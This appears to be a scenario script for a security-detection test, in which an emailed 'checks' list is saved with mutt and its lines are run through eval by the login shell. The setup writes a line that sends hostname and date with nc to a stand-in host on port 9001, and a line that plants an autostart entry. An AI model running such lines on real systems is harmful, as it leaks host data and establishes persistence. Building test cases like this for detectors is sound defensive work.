title="Lines of a mailed list evaluated by a loop of the login shell"
what="ops saves checks.lst with mutt and, as the letter says, runs: while read -r l; do eval \"\$l\"; done < checks.lst. No interpreter is started: the login shell itself opens the file and runs its lines: df, id, and nc to 203.0.113.67 port 9001."
host=mx1.example.org user=ops daemons="cron sshd" store=mbox
setup() {
  printf 'df -h / | tail -1\nid\n(hostname; date) | nc -w 2 203.0.113.67 9001\nmkdir -p ~/.config/autostart; printf "[Desktop Entry]\\nType=Application\\nExec=true\\n" > ~/.config/autostart/c.desktop\n' > "$base/out/checks.lst"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/ops/.muttrc; chown ops: /home/ops/.muttrc
}
act() {
  small_talk 2
  mail_in --from audit@example.net --to ops@example.org --subject "Checks for the yearly review" --source 203.0.113.19 --helo host19.example.net --attach "$base/out/checks.lst:text/plain"
  wait_mail ops 1
  ssh_as ops <<'L'
%saves mutt
wc -l checks.lst
%sleep 3
while read -r l; do eval "$l"; done < checks.lst
%sleep 1
mailq | tail -1
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE .*checks.lst' 'saved'
  file_step execute 'bash open(at)?:read NORMAL .*checks.lst' 'the login shell reads it'
  net_step beacon 'nc.* 203.0.113.67:9001' 'and runs its lines'
}
